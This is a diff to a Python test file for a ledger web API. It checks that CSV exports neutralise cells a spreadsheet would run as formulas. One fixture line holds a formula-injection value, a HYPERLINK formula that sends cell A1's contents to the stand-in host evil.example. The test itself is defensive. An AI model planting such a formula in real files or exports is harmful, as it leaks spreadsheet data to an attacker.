@@ -1,12 +1,11 @@
 """Issue 12: the ledger and the reports refuse dates outside the hall's range (point 10: these were
 500s) and the ledger's CSV neutralises cells a spreadsheet would run as formulas (point 12)."""
 
-import csv
-import io
-
 import pytest
 from intake_ledger_calls import HEAD, SUPERVISION, accept
 from intake_roster_calls import put_post
+
+from web_api.csv_cells import read_with_headings
 
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
 
@@ -37,7 +36,7 @@ def test_r_clock_6_a_ledger_cell_typed_as_a_formula_comes_out_as_text_in_the_csv
     query = "/ledger?from=2026-11-23&to=2026-11-23"
     answer = web_session.get(query + "&format=csv", headers=SUPERVISION)
     assert answer.status_code == 200, answer.text
-    [row] = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    _, [row] = read_with_headings(answer.content.decode("utf-8"))
     assert (row["case_no"], row["acceptor_name"]) == (case["case_no"], "'" + FORMULA)
     assert row["registered_at"].startswith("2026-11-23T10:00")  # program-written cells unchanged
     [entry] = web_session.get(query, headers=SUPERVISION).json()["rows"]
